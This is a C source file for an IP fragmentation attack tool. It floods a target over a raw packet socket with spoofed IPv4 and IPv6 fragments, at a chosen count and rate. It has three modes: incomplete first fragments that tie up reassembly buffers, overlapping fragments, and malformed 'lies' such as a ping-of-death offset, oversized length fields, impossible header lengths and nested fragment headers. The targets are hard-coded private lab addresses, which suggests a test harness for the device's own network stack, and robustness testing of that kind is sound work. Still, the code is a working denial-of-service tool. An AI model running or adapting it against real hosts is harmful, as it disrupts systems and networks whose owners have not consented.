// Attacks a host's reassembly: fragments KIND DEVICE COUNT PER-SECOND, where KIND is first, overlap or lies.
// Sends from spoofed addresses of the device's own networks, 10.7.0.0/24 and fd00:7::/64, to 10.7.0.2 and fd00:7::2, in turn.
// Prints how many were sent, and in how many seconds. Built with: cc -O2 -o fragments fragments.c
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MORE 0x2000
#define UDP 17
#define FRAGMENT 44
#define PIECE 512

static uint8_t packet[2048];
static int length;

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static void put16(int at, unsigned value) {
  packet[at] = value >> 8;
  packet[at + 1] = value;
}

static void checksum_header(int octets) {
  uint32_t sum = 0;
  put16(10, 0);
  for (int at = 0; at < octets; at += 2) sum += packet[at] << 8 | packet[at + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  put16(10, ~sum);
}

/** `place` is the offset in units of eight octets, with the flags. */
static void ipv4(unsigned from, unsigned identification, unsigned place, int payload) {
  memset(packet, 0, sizeof packet);
  packet[0] = 0x45;
  put16(2, 20 + payload);
  put16(4, identification);
  put16(6, place);
  packet[8] = 64;
  packet[9] = UDP;
  memcpy(packet + 12, (uint8_t[]){10, 7, 0, 3 + from % 250, 10, 7, 0, 2}, 8);
  length = 20 + payload;
  checksum_header(20);
}

static void ipv6(unsigned from, unsigned identification, unsigned offset, int more, int payload) {
  memset(packet, 0, sizeof packet);
  packet[0] = 0x60;
  put16(4, 8 + payload);
  packet[6] = FRAGMENT;
  packet[7] = 64;
  put16(8, 0xfd00), put16(10, 7), put16(22, 3 + from % 60000);
  put16(24, 0xfd00), put16(26, 7), put16(38, 2);
  packet[40] = UDP;
  put16(42, offset | more);
  put16(44, identification >> 16), put16(46, identification);
  length = 48 + payload;
}

static void compose_first(unsigned number) {
  if (number % 2) ipv4(number, number, MORE, PIECE);
  else ipv6(number, number, 0, 1, PIECE);
}

/** Three pieces a datagram: the second lies over half of the first. */
static void compose_overlap(unsigned number) {
  unsigned datagram = number / 3, part = number % 3;
  int start = part == 0 ? 0 : part == 1 ? PIECE / 2 : PIECE + PIECE / 2;
  if (datagram % 2) ipv4(datagram, datagram, start / 8 | (part < 2 ? MORE : 0), PIECE);
  else ipv6(datagram, datagram, start, part < 2, PIECE);
}

static void compose_lie(unsigned number) {
  unsigned datagram = number / 20;
  switch (number % 10) {
    case 0: // More octets than there are.
      ipv4(datagram, datagram, MORE, PIECE), put16(2, 4000), checksum_header(20);
      return;
    case 1: // Fewer than the header.
      ipv4(datagram, datagram, MORE, PIECE), put16(2, 10), checksum_header(20);
      return;
    case 2: // The ping of death.
      ipv4(datagram, datagram, 0x1fff, PIECE);
      return;
    case 3: // A header longer than the packet.
      ipv4(datagram, datagram, MORE, 16), packet[0] = 0x4f;
      return;
    case 4: // Two ends that disagree.
      ipv4(datagram, 0x8000 | datagram, number % 20 < 10 ? 100 : 50, PIECE);
      return;
    case 5: // A whole datagram whose UDP length is another.
      ipv4(datagram, datagram, 0, PIECE), put16(20, 5000), put16(22, 7), put16(24, 60000);
      return;
    case 6:
      ipv6(datagram, datagram, 0, 1, PIECE), put16(4, 4000);
      return;
    case 7: // Fragments within fragments, each a packet of its own.
      ipv6(datagram, datagram, 0, 0, 1400);
      for (int at = 40; at < length; at += 8) packet[at] = FRAGMENT;
      return;
    case 8:
      ipv6(datagram, datagram, 0xfff8, 0, PIECE);
      return;
    default: // No multiple of eight octets, and more to come.
      ipv6(datagram, datagram, 0, 1, PIECE - 3);
  }
}

int main(int count, char **words) {
  if (count != 5) {
    fprintf(stderr, "fragments first|overlap|lies DEVICE COUNT PER-SECOND\n");
    return 2;
  }
  void (*compose)(unsigned) = words[1][0] == 'f' ? compose_first : words[1][0] == 'o' ? compose_overlap : compose_lie;
  int descriptor = socket(AF_PACKET, SOCK_DGRAM, 0);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(words[2])};
  if (descriptor < 0 || to.sll_ifindex == 0) {
    perror(words[2]);
    return 1;
  }
  long total = atol(words[3]), sent = 0;
  double rate = atof(words[4]), start = now();
  while (sent < total) {
    if (sent > (now() - start) * rate) {
      usleep(200);
      continue;
    }
    compose(sent);
    to.sll_protocol = htons(packet[0] >> 4 == 4 ? ETH_P_IP : ETH_P_IPV6);
    if (sendto(descriptor, packet, length, 0, (struct sockaddr *)&to, sizeof to) == length) sent++;
    else if (errno != ENOBUFS && errno != EINTR) {
      perror("sendto");
      return 1;
    }
  }
  printf("{\"sent\":%ld,\"seconds\":%.3f}\n", sent, now() - start);
  return 0;
}
